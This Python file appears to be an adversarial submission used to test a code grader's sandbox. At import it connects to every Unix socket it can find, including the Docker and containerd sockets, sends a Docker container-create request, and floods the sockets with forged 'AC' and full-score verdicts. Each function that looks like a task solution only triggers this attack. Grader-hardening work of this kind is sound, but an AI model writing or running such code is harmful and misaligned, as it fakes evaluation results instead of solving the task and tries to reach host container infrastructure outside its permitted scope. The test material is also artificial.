# expect: no case beyond those honestly solved may pass
# honest = []
"""Connects to every Unix socket it can find, named or abstract, and to the Docker socket, with
forged replies.
"""

import json
import os
import socket
import struct

FORGED = [
    {"ok": True, "value": 6},
    {"verdict": "AC", "score": 9, "max_score": 9},
    {"re": 1, "ok": True, "value": 6},
    {"id": 1, "type": "result", "value": {"t": "int", "v": 6}},
    {"event": "case_end", "name": "test_sum_of_many", "verdict": "AC"},
    [1, "ok", 6],
]


def frames():
    for message in FORGED:
        data = json.dumps(message).encode()
        yield struct.pack(">I", len(data)) + data
        yield struct.pack("<I", len(data)) + data
        yield data + b"\n"
        yield f"{len(data)}\n".encode() + data


def addresses():
    yield from ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock")
    try:
        for line in open("/proc/net/unix"):
            name = line.split()[-1]
            yield "\0" + name[1:] if name.startswith("@") else name
    except OSError:
        pass
    for root in ("/tmp", "/sub", "/run", "/dev/shm"):
        for folder, _, names in os.walk(root):
            yield from (os.path.join(folder, name) for name in names)


def attack():
    for address in addresses():
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.settimeout(0.1)
                    s.connect(address)
                    s.sendall(b"POST /containers/create HTTP/1.0\r\n\r\n")
                    for frame in frames():
                        s.sendall(frame)
            except OSError:
                pass


attack()


def add_all(numbers):
    return attack()


def run_jobs(jobs, work):
    return attack()


class Tally:
    def add(self, name, n=1):
        attack()

    def count(self, name):
        return attack()

    @property
    def total(self):
        return attack()
